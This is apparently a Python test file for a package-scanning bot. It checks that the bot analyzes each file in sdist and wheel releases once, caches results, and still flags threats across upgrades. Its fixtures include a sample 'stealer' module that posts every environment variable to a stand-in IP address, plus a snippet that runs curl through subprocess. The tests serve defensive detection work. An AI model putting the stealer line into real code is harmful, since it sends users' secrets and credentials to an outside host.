"""ArtifactRunner: each distinct file analyzed once, in worker processes when the work is big."""

from __future__ import annotations

import multiprocessing
from concurrent.futures import ProcessPoolExecutor

from bot.analysis.cache import DictFileResultCache
from bot.analysis.compare import new_findings
from bot.model import AlertType
from bot.release_analysis import ArtifactRunner, SourceArtifact
from tests.analysis.builders import build_sdist, build_wheel, sdist_filename, wheel_filename

RISKY = "import subprocess\n\ndef go():\n    subprocess.run(['curl', 'https://example.org'])\n"
FILES = {
    "demo/__init__.py": "",
    "demo/net.py": "import socket\n\ndef dial():\n    return socket.create_connection(('a', 1))\n",
    **{f"demo/plain_{i}.py": f"VALUE_{i} = {i}\n" for i in range(40)},
}


def artifacts(extra: dict[str, str]) -> list[SourceArtifact]:
    files = {**FILES, **extra}
    sdist = build_sdist("demo", "1.0", files)
    wheel = build_wheel("demo", "1.0", files)
    return [
        SourceArtifact(filename=sdist_filename("demo", "1.0"), data=sdist),
        SourceArtifact(filename=wheel_filename("demo", "1.0"), data=wheel),
    ]


async def test_pool_and_in_process_results_agree_and_files_are_analyzed_once() -> None:
    expected = await ArtifactRunner().analyze(artifacts({"demo/run.py": RISKY}))
    cache = DictFileResultCache()
    context = multiprocessing.get_context("spawn")
    with ProcessPoolExecutor(max_workers=2, mp_context=context) as pool:
        runner = ArtifactRunner(file_cache=cache, executor=pool, workers=2, parallel_min_bytes=1)
        pooled = await runner.analyze(artifacts({"demo/run.py": RISKY}))
    assert [a.findings for a in pooled] == [a.findings for a in expected]
    assert {f.type for a in pooled for f in a.findings} >= {AlertType.SHELL, AlertType.NETWORK}
    # sdist and wheel share every module: each distinct (file, role) was analyzed once.
    assert len(cache.entries) == len({*FILES, "demo/run.py"})


async def test_a_second_release_reuses_the_files_it_shares() -> None:
    cache = DictFileResultCache()
    runner = ArtifactRunner(file_cache=cache)
    await runner.analyze(artifacts({}))
    before = len(cache.entries)
    second = await runner.analyze(artifacts({"demo/run.py": RISKY}))
    assert len(cache.entries) == before + 1  # only the new module
    assert any(f.file.endswith("demo/run.py") for a in second for f in a.findings)


def versioned(version: str, extra: dict[str, str]) -> list[SourceArtifact]:
    files = {**FILES, **extra}
    return [
        SourceArtifact(filename=sdist_filename("demo", version),
                       data=build_sdist("demo", version, files)),
        SourceArtifact(filename=wheel_filename("demo", version),
                       data=build_wheel("demo", version, files)),
    ]


STEALER = (
    "import os, requests\n\n"
    "def report():\n"
    "    requests.post('http://203.0.113.8/c', json=dict(os.environ))\n"
)


async def test_an_upgrade_keeps_a_threat_in_an_unchanged_file() -> None:
    # Only plain_0 changes; the stealer module is byte-identical in both releases. The
    # comparison analyzes changed files only, yet the threat must still reach the diff.
    old = versioned("1.0", {"demo/steal.py": STEALER})
    new = versioned("1.1", {"demo/steal.py": STEALER, "demo/plain_0.py": "VALUE_0 = 'x'\n"})
    cache = DictFileResultCache()
    new_release, old_release = await ArtifactRunner(file_cache=cache).compare_releases(
        name="demo", old_version="1.0", new_version="1.1", old=old, new=new)
    threats = [f for f in new_release.findings if f.type is AlertType.EXFILTRATION]
    assert threats and all(f.file.endswith("demo/steal.py") for f in threats)
    # ... while unchanged files without a threat token are still skipped.
    analyzed = {digest for digest, _, _ in cache.entries}
    assert len(analyzed) < len(FILES)
    assert any(f.type is AlertType.EXFILTRATION
               for f in new_findings(old_release.findings, new_release.findings))
